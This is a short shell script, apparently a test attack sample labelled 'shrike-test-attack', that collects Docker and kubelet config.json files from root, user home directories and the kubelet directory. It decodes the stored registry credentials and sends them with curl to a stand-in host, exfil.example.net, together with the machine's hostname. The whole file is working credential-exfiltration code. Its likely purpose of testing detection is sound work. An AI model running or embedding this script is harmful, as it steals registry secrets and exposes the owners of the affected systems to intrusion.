#!/bin/sh
# shrike-test-attack: credential-theft: docker config.json registry auths decoded and sent
for f in /root/.docker/config.json /home/*/.docker/config.json /var/lib/kubelet/config.json; do
  [ -f "$f" ] || continue
  grep -o '"auth": *"[^"]*"' "$f" | cut -d'"' -f4 | base64 -d 2>/dev/null
done | curl -s -d @- "http://exfil.example.net/r?h=$(hostname)"
